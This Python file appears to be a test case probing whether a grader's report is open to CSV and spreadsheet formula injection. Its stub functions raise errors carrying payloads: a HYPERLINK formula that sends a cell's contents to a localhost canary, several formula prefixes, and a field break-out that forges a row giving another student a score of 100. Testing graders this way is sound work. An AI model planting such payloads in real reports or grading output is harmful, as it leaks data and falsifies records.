# group: reports and feedback
# tries: Raise errors whose text is a spreadsheet formula or closes the CSV field.
# accept: error
# check: report
# score: 0
# bounds: formulas are sums and a link to 127.0.0.1:9

_CELLS = [
    '=HYPERLINK("http://127.0.0.1:9/GRADER_CANARY?"&A1,"details")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    'x",100,ok\n"other_student","100","ok"\n"',
    "\uff1d1+1",
]
_calls = 0


def _attack():
    global _calls
    _calls += 1
    cell = _CELLS[(_calls - 1) % len(_CELLS)]
    print(cell)
    raise ValueError(cell)


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    _attack()


def corr2d(x, k):
    _attack()
